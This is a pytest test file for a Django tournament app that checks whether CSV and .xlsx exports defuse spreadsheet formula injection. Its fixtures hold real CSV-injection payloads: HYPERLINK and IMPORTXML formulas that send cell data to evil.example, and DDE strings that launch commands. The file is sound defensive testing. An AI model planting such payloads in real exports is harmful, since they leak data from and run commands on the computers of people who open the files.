"""CSV and .xlsx downloads are safe to open in a spreadsheet (issue 13, OWASP "CSV injection";
issue 20 for .xlsx).

Names an organiser imported reach anyone who downloads a public `?_export=csv`: a cell a
spreadsheet would evaluate (starting with =, +, -, @, a tab or a carriage return) gets a leading
apostrophe in every export, while the pages show the names as they are.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from tournament_factories import play

from tournaments import services
from tournaments.files.table_export import FORMULA_STARTS, XLSX_CONTENT_TYPE, neutralise

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_CLUB = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"


@pytest.fixture
def hostile(organiser):
    """A paired round robin whose names and club are formulas, with a forfeit in round 1."""
    tournament = services.create_tournament(created_by=organiser, name="=1+1 Aberto",
                                            place="@Campinas")
    for name in HOSTILE_NAMES:
        services.add_player(tournament, name=name, club=HOSTILE_CLUB, rating=1500)
    numbers = {entry.pk: number for number, entry in
               enumerate(tournament.entries.order_by("pk"), start=1)}
    services.set_numbers(tournament, numbers)
    services.generate_rounds(tournament)
    play(tournament, {(1, 1): "+-", (1, 2): "1-0", (1, 3): "1/2-1/2"})
    return tournament


def exports(tournament) -> dict[str, str]:
    """Every page that offers "Download as CSV", with the URL of its download."""
    slug = tournament.slug
    entry = tournament.entries.get(number=1)
    pages = {
        "list": reverse("tournaments:list"),
        "players": reverse("tournaments:detail", args=[slug]),
        "round": reverse("tournaments:round", args=[slug, 1]),
        "standings": reverse("tournaments:standings", args=[slug]),
        "standings after round 1": reverse("tournaments:standings", args=[slug]) + "?rodada=1",
        "crosstable": reverse("tournaments:crosstable", args=[slug]),
        "player": reverse("tournaments:player", args=[slug, entry.pk]),
    }
    return {name: url + ("&" if "?" in url else "?") + "_export=csv"
            for name, url in pages.items()} | {f"{name} page": url for name, url in pages.items()}


def cells(response, delimiter: str = ",") -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


PAGES = ["list", "players", "round", "standings", "standings after round 1", "crosstable",
         "player"]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("pt-br", ";")])
def test_no_cell_of_any_export_starts_a_formula(client, hostile, page, language, delimiter):
    rows = cells(client.get(exports(hostile)[page], HTTP_ACCEPT_LANGUAGE=language), delimiter)
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (page, cell)


def as_xml_reads(text: str) -> str:
    """A text as read back from the .xlsx: XML reads a carriage return as a line feed."""
    return text.replace("\r", "\n")


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("page", PAGES)
def test_no_cell_of_any_xlsx_is_a_formula(client, hostile, page):
    """An .xlsx cell has a type: each text is a string cell, kept as entered, and one that
    looks like a formula is marked "quote prefix" so that editing it keeps it text."""
    url = exports(hostile)[page].replace("_export=csv", "_export=xlsx")
    sheet = workbook(client.get(url, HTTP_ACCEPT_LANGUAGE="en"))
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), (page, cell.value)
            if cell.data_type == "s":
                texts.append(cell.value)
                assert cell.quotePrefix == cell.value.startswith((*FORMULA_STARTS, "\n")), (
                    cell.value)
            assert not (isinstance(cell.value, str) and cell.value.startswith("'")), cell.value
    assert any(text.startswith(FORMULA_STARTS) for text in texts), page


def test_the_xlsx_has_the_names_as_entered_and_numbers_as_numbers(client, hostile):
    urls = {name: url.replace("_export=csv", "_export=xlsx") for name, url in
            exports(hostile).items()}
    players = list(workbook(client.get(urls["players"], HTTP_ACCEPT_LANGUAGE="en"))
                   .iter_rows(min_row=2))
    assert sorted(row[1].value for row in players) == sorted(map(as_xml_reads, HOSTILE_NAMES))
    assert {row[2].value for row in players} == {HOSTILE_CLUB}
    assert [(row[3].value, row[3].data_type) for row in players] == [(1500, "n")] * 6
    standings = list(workbook(client.get(urls["standings"], HTTP_ACCEPT_LANGUAGE="en"))
                     .iter_rows(min_row=2))
    assert {row[2].value for row in standings} == set(map(as_xml_reads, HOSTILE_NAMES))
    assert all(row[5].data_type == "n" for row in standings)  # the points
    crosstable = workbook(client.get(urls["crosstable"], HTTP_ACCEPT_LANGUAGE="en"))
    forfeits = [cell for row in crosstable.iter_rows() for cell in row
                if cell.value in ("+W", "-B", "+B", "-W")]
    assert len(forfeits) == 2 and all(cell.quotePrefix for cell in forfeits)
    listing = workbook(client.get(urls["list"], HTTP_ACCEPT_LANGUAGE="en"))
    assert [listing["A2"].value, listing["B2"].value] == ["=1+1 Aberto", "@Campinas"]
    assert listing["A2"].data_type == "s" and listing["A2"].quotePrefix


def test_names_clubs_and_titles_arrive_quoted_not_changed(client, hostile):
    urls = exports(hostile)
    players = cells(client.get(urls["players"], HTTP_ACCEPT_LANGUAGE="en"))
    assert sorted(row[1] for row in players[1:]) == sorted("'" + name for name in HOSTILE_NAMES)
    assert {row[2] for row in players[1:]} == {"'" + HOSTILE_CLUB}
    assert [row[3] for row in players[1:]] == ["1500"] * len(HOSTILE_NAMES)  # numbers stay
    standings = cells(client.get(urls["standings"], HTTP_ACCEPT_LANGUAGE="en"))
    assert {row[2] for row in standings[1:]} == {"'" + name for name in HOSTILE_NAMES}
    crosstable = cells(client.get(urls["crosstable"], HTTP_ACCEPT_LANGUAGE="en"))
    assert {row[2] for row in crosstable[1:]} == {"'" + name for name in HOSTILE_NAMES}
    assert any("'+W" in row or "'-B" in row for row in crosstable)  # the forfeit, as text
    listing = cells(client.get(urls["list"], HTTP_ACCEPT_LANGUAGE="en"))
    assert listing[1][:2] == ["'=1+1 Aberto", "'@Campinas"]


def test_the_pages_show_the_names_as_entered(hostile):
    client = Client(headers={"accept-language": "en"})
    urls = exports(hostile)
    page = client.get(urls["players page"]).content.decode()
    for name in HOSTILE_NAMES:
        assert f">{escape(name)}</a>" in page
        assert escape("'" + name) not in page
    assert escape(HOSTILE_CLUB) in page and escape("'" + HOSTILE_CLUB) not in page
    for name in ("standings page", "crosstable page"):
        page = client.get(urls[name]).content.decode()
        assert escape(HOSTILE_NAMES[0]) in page and escape("'" + HOSTILE_NAMES[0]) not in page


@pytest.mark.parametrize(("value", "numeric", "expected"), [
    ("=1+1", False, "'=1+1"),
    ("-2", False, "'-2"),          # a name or a result: text
    ("-2", True, "-2"),            # a score in a numeric column: still a number
    ("-0,5", True, "-0,5"),        # the Portuguese decimal comma
    ("-2+3", True, "'-2+3"),       # not a plain number, even in a numeric column
    ("@x", True, "'@x"),
    ("\t=1", False, "'\t=1"),
    ("\r=1", False, "'\r=1"),
    ("Ana =1", False, "Ana =1"),   # only the first character matters
    ("", False, ""),
    (-2, False, -2),               # a Python number is written as a number
    (None, False, None),
])
def test_neutralise(value, numeric, expected):
    assert neutralise(value, numeric=numeric) == expected
